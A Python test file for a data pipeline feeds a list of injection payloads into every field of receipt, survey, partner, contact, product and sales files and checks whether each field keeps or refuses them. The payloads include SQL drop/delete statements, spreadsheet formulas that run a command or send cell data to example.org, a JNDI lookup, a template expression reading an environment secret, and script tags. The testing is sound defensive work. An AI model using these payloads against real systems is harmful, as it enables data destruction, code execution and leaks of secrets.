"""SQL, formulas and templates in every text field: kept as they are where text is kept, refused where codes are."""

from collections.abc import Sequence
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from bad_input.case import (
    NETWORK,
    PARTNERS,
    RECEIPTS,
    SALES,
    SHOP_SURVEY,
    Case,
    File,
    Outcome,
    hashed,
    lines,
    receipt,
    record,
)
from bad_input.records import contact

PAYLOADS = (
    "'; drop table dim_partner; --",
    '"; delete from fct_transaction; --',
    "x' or '1'='1",
    '=HYPERLINK("http://example.org?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "{{ env_var('NPS_IDENTITY_KEY') }}",
    "${jndi:ldap://example.org/a}",
    "<script>alert(1)</script>",
    "%s%n{0}\\u0000\\x00",
)
FIRST_ROW = 2


def _every_column(
    path: str, dataset: str, header: str, good: dict[str, str], reasons: dict[str, str | None]
) -> tuple[File, ...]:
    """A file per payload and in it a row per column that holds the payload; `reasons` is None where it is taken."""
    files = []
    key = next(iter(good))
    lines_of = dict(enumerate(reasons.items(), start=FIRST_ROW))
    faults = tuple((line, reason, column) for line, (column, reason) in lines_of.items() if reason)
    staged = tuple((line,) for line, (_, reason) in lines_of.items() if not reason)
    for number, payload in enumerate(PAYLOADS):
        rows = [
            record(*(good | {key: f"{number}-{line}"} | {column: payload}).values())
            for line, (column, _) in lines_of.items()
        ]
        files.append(File(path.format(number), lines(header, *rows), Outcome(dataset, "", staged, faults)))
    return tuple(files)


RECEIPT = dict(zip(RECEIPTS.split(","), ("R", "sale", "2024-06-03", "", "", "10.00", "6.00", "EUR"), strict=True))
ANSWER = dict(zip(SHOP_SURVEY.split(","), ("A", "2024-06-03T10:00:00", "", "", "", "", "9", ""), strict=True))


def _texts(values: Sequence[str]) -> tuple[tuple[object, ...], ...]:
    return tuple((line, value) for line, value in enumerate(values, start=FIRST_ROW))


def _products(target: Path) -> None:
    pq.write_table(
        pa.table({"product_code": list(PAYLOADS), "product_name": list(PAYLOADS), "product_line": list(PAYLOADS)}),
        target,
    )


CASES = (
    Case(
        "injection-in-receipts",
        _every_column(
            "shop/S-injection/receipts_{}.csv",
            "shop__receipts",
            RECEIPTS,
            RECEIPT,
            {
                "receipt_kind": "value_not_allowed",
                "purchased_on": "invalid_date",
                "loyalty_no": None,
                # the product master of the case below holds it
                "product_code": None,
                "revenue": "invalid_number",
                "cost": "invalid_number",
                "currency": "unknown_currency",
            },
        ),
    ),
    Case(
        "injection-in-numbers-of-receipts",
        (
            File(
                "shop/S-injection-no/receipts.csv",
                lines(RECEIPTS, *(receipt(payload) for payload in PAYLOADS)),
                Outcome("shop__receipts", "receipt_no", _texts(PAYLOADS)),
            ),
        ),
    ),
    Case(
        "injection-in-surveys",
        _every_column(
            "shop/S-injection-survey/survey_{}.csv",
            "shop__survey",
            SHOP_SURVEY,
            ANSWER,
            {
                "answered_at": "invalid_timestamp",
                "receipt_no": None,
                "loyalty_no": None,
                "email": None,
                "survey_mode": "value_not_allowed",
                "score": "invalid_score",
                "comment": None,
            },
        ),
    ),
    Case(
        "injection-in-names-of-partners",
        (
            File(
                "chain/partners_injection.csv",
                lines(
                    PARTNERS,
                    *(
                        record(f"J-{place}", "dealer", "automotive", "NL", payload, "", payload, "2020-01-01", "")
                        for place, payload in enumerate(PAYLOADS)
                    ),
                ),
                Outcome(
                    "chain__partners",
                    "partner_name, owner_name",
                    tuple((line, payload, payload) for line, payload in enumerate(PAYLOADS, start=FIRST_ROW)),
                ),
            ),
        ),
        partners=(),
    ),
    Case(
        "injection-in-codes-of-partners",
        (
            File(
                "chain/partners_injection_codes.csv",
                lines(
                    PARTNERS,
                    *(record(text, "dealer", "automotive", "NL", "A", "", "", "2020-01-01", "") for text in PAYLOADS),
                    *(record("Q-1", text, "automotive", "NL", "A", "", "", "2020-01-01", "") for text in PAYLOADS),
                    *(record("Q-2", "dealer", text, "NL", "A", "", "", "2020-01-01", "") for text in PAYLOADS),
                    *(record("Q-3", "dealer", "automotive", text, "A", "", "", "2020-01-01", "") for text in PAYLOADS),
                    *(record("Q-4", "dealer", "automotive", "NL", "A", "", "", text, "") for text in PAYLOADS),
                ),
                Outcome(
                    "chain__partners",
                    "partner_code",
                    (),
                    tuple(
                        (FIRST_ROW + block * len(PAYLOADS) + place, reason, column)
                        for block, (reason, column) in enumerate(
                            [
                                ("value_not_allowed", "partner_code"),
                                ("value_not_allowed", "link"),
                                ("unknown_industry", "industry"),
                                ("unknown_country", "country"),
                                ("invalid_date", "valid_from"),
                            ]
                        )
                        for place, _ in enumerate(PAYLOADS)
                    ),
                ),
            ),
        ),
        partners=(),
    ),
    Case(
        "injection-in-contacts",
        (
            File(
                "contact_centre/C-injection/contacts.ndjson",
                "\n".join(
                    contact(text, reason=text, agent=text, caller={"email": text, "serial_number": text})
                    for text in PAYLOADS
                ),
                Outcome(
                    "contact_centre__contacts",
                    "contact_id, reason, agent_hash",
                    tuple(
                        (line, payload, payload, hashed("agent", "C-injection", payload))
                        for line, payload in enumerate(PAYLOADS, start=1)
                    ),
                ),
            ),
        ),
    ),
    Case(
        "injection-in-products",
        (
            File(
                "manufacturer/M-injection/products.parquet",
                _products,
                Outcome(
                    "manufacturer__products",
                    "product_code, product_name, product_line",
                    tuple((line, payload, payload, payload) for line, payload in enumerate(PAYLOADS, start=1)),
                ),
            ),
        ),
    ),
    Case(
        "injection-in-the-dealer-network",
        (
            File(
                "importer/I-injection/dealernetwerk.csv",
                lines(
                    NETWORK,
                    *(
                        record(f"{place + 1:02d}-01-2024", "D-injection", payload, payload, payload, "", delimiter=";")
                        for place, payload in enumerate(PAYLOADS)
                    ),
                ),
                Outcome(
                    "importer__dealer_network",
                    "dealer_name, owner_name, city",
                    tuple((line, payload, payload, payload) for line, payload in enumerate(PAYLOADS, start=FIRST_ROW)),
                ),
            ),
        ),
        partners=(
            "I-injection,importer,automotive,NL,Importer,,,2020-01-01,",
            "D-injection,dealer,automotive,NL,Dealer,,,2020-01-01,",
        ),
    ),
    Case(
        "injection-in-sales-orders",
        (
            File(
                "dealer/D-injection/sales_orders.csv",
                lines(SALES, *(record(text, text, text, "used", "2024-06-03", "1", "1", "EUR") for text in PAYLOADS)),
                Outcome("dealer__sales_orders", "order_no", _texts(PAYLOADS)),
            ),
        ),
        partners=(),
    ),
    Case(
        "injection-in-notes-of-the-chain",
        (
            File(
                "chain/follow_ups.csv",
                lines(
                    "follow_up_id,survey,partner_code,response_no,opened_on,closed_on,outcome",
                    *(record(text, "shop_visit", "S-good", text, "2024-06-03", "", "") for text in PAYLOADS),
                ),
                Outcome("chain__follow_ups", "follow_up_id", _texts(PAYLOADS)),
            ),
            File(
                "chain/benchmarks.csv",
                lines(
                    "industry,country,link,year,nps,source",
                    *(
                        record("retail", "NL", "shop", str(2000 + place), "10", text)
                        for place, text in enumerate(PAYLOADS)
                    ),
                ),
                Outcome("chain__benchmarks", "source", _texts(PAYLOADS)),
            ),
        ),
    ),
)
